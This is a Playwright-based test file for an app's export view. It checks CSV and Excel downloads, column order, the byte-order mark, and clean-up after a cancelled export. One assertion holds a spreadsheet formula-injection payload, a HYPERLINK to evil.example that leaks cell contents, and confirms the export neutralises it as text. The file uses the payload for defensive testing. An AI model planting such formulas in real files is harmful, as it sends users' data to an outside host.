import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import type { Download } from 'playwright-core';
import type { ExportResult } from '../electron/api.js';
import type { Workbench } from '../electron/service.js';
import { importFiles, openArchive } from './dup-helpers.js';
import { fixture } from './helpers.js';
import { noChromium, openUi } from './ui-helpers.js';

/* The export view in browser mode: the file is written by the server and arrives as a download. */

/** Files (not folders) left in the server's staging folder. */
const stagedFiles = (dir: string): string[] => readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => e.name);

test('export view: the articles of the current query as CSV with the columns chosen, downloaded, cells as in the archive', { skip: noChromium, timeout: 120_000 }, async (t) => {
  const { wb } = await openArchive(t);
  await importFiles(wb, [fixture('export', 'artikel.jsonl'), fixture('duplicates')]);
  const { page, server, shot, assertClean } = await openUi(t, wb);
  await page.getByRole('searchbox', { name: 'Query' }).fill('Jakarta');
  await page.getByText('4 matches').waitFor();
  await page.getByRole('button', { name: 'Export', exact: true }).click();

  const view = page.getByRole('region', { name: 'Export' });
  assert.equal(await view.getByRole('searchbox', { name: 'Query' }).inputValue(), 'Jakarta', 'the current query, prefilled');
  assert.equal(await view.getByRole('radio', { name: /^Articles/ }).isChecked(), true);
  const columns = view.getByRole('group', { name: 'Columns, in this order' });
  for (const name of ['URL', 'Language', 'Countries', 'Persons', 'Tags']) await columns.getByRole('checkbox', { name }).uncheck();
  await columns.getByRole('checkbox', { name: 'Full text' }).check();
  await view.getByRole('combobox', { name: 'Order' }).selectOption('newest');
  await view.getByRole('combobox', { name: 'For' }).selectOption({ label: 'Excel where decimals use a comma (semicolon-separated)' });
  assert.equal(await view.getByRole('checkbox', { name: /Byte-order mark/ }).isChecked(), true);
  await shot('export-form');

  const downloading = page.waitForEvent('download');
  await view.getByRole('button', { name: 'Export and download' }).click();
  const download: Download = await downloading;
  assert.match(download.suggestedFilename(), /^pantau-articles-\d{4}-\d{2}-\d{2}\.csv$/);
  const bytes = readFileSync((await download.path())!);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark first');
  const text = bytes.toString('utf8').slice(1);
  assert.match(text, /\r\n/);
  const { data } = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true });
  assert.deepEqual(data[0], ['id', 'published', 'source', 'title', 'text'], 'the columns chosen, in their order');
  assert.equal(data.length, 5);
  const jokowi = data.find((row) => row[3]!.startsWith('Presiden Jokowi'))!;
  assert.equal(jokowi[3], 'Presiden Jokowi bertemu PM Albanese di Jakarta; bahas "kerja sama" energi', 'a title with the separator and quotes, whole');
  assert.equal(jokowi[1], '2024-03-04T09:30:00+07:00');
  assert.equal(jokowi[2], 'kabarkota.example');
  assert.match(jokowi[4]!, /^Presiden Joko Widodo menerima Perdana Menteri Australia Anthony Albanese di Istana Merdeka/);
  assert.match(jokowi[4]!, /\n\nKedua pemimpin membahas kerja sama energi bersih/, 'paragraphs kept inside the cell');
  assert.ok(data.some((row) => row[3] === "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik di sini\")"), 'a formula arrives as text');
  assert.deepEqual(
    data.slice(1).map((row) => row[1]!.slice(0, 10)),
    ['2024-03-11', '2024-03-05', '2024-03-05', '2024-03-04'],
    'newest first',
  );

  await view.getByRole('status').getByText('Downloaded 4 rows as').waitFor();
  assert.match((await view.locator('.where').textContent()) ?? '', /^pantau-articles-.*\.csv$/);
  await shot('export-done');
  assert.deepEqual(stagedFiles(server.staging), [], 'the server keeps no copy once it is downloaded');
  assertClean();
});

test('export view: country counts as an Excel workbook', { skip: noChromium, timeout: 120_000 }, async (t) => {
  const { wb } = await openArchive(t);
  await importFiles(wb, [fixture('export', 'artikel.jsonl')]);
  const { page, assertClean } = await openUi(t, wb);
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const view = page.getByRole('region', { name: 'Export' });
  await view.getByRole('radio', { name: /^Country and person counts/ }).check();
  await view.getByRole('searchbox', { name: 'Query' }).fill('Jakarta');
  await view.getByRole('combobox', { name: 'Per' }).selectOption({ label: 'Month' });
  await view.getByRole('radio', { name: 'Excel workbook (.xlsx)' }).check();
  assert.equal(await view.getByRole('combobox', { name: 'For' }).count(), 0, 'no CSV options for a workbook');

  const downloading = page.waitForEvent('download');
  await view.getByRole('button', { name: 'Export and download' }).click();
  const download = await downloading;
  assert.match(download.suggestedFilename(), /^pantau-countries-per-month-\d{4}-\d{2}-\d{2}\.xlsx$/);
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile((await download.path())!);
  const sheet = book.worksheets[0]!;
  const rows = sheet.getSheetValues().filter(Boolean).map((row) => (row as unknown[]).slice(1));
  assert.deepEqual(rows, [
    ['country', 'code', 'total', '2024-03'],
    ['Indonesia', 'ID', 4, 4],
    ['Australia', 'AU', 2, 2],
  ]);
  await view.getByRole('status').getByText('Downloaded 2 rows as').waitFor();
  assertClean();
});

test('export view: a cancelled export downloads nothing and leaves no file', { skip: noChromium, timeout: 120_000 }, async (t) => {
  const { wb } = await openArchive(t);
  await importFiles(wb, [fixture('export', 'artikel.jsonl')]);
  // The real service, whose export starts only once it is cancelled: the cancel then comes mid-export, not in a race.
  let finished: (result: ExportResult) => void = () => undefined;
  const ended = new Promise<ExportResult>((resolve) => (finished = resolve));
  const gated = Object.create(wb) as Workbench;
  gated.export = (request, hooks = {}) =>
    new Promise((resolve, reject) =>
      hooks.signal?.addEventListener('abort', () => wb.export(request, hooks).then((r) => (finished(r), resolve(r)), reject), { once: true }),
    );
  const { page, server, assertClean } = await openUi(t, gated);
  const downloads: string[] = [];
  page.on('download', (d) => downloads.push(d.suggestedFilename()));
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const view = page.getByRole('region', { name: 'Export' });
  await view.getByRole('button', { name: 'Export and download' }).click();
  const progress = view.getByRole('group', { name: 'Exporting' });
  await progress.getByRole('button', { name: 'Cancel' }).click();
  await view.getByText('Export cancelled: no file was written.').waitFor();
  assert.equal((await ended).status, 'cancelled');
  assert.deepEqual(stagedFiles(server.staging), []);
  assert.deepEqual(downloads, []);
  assert.equal(await view.getByRole('button', { name: 'Export and download' }).isEnabled(), true, 'ready for another export');
  assertClean();
});
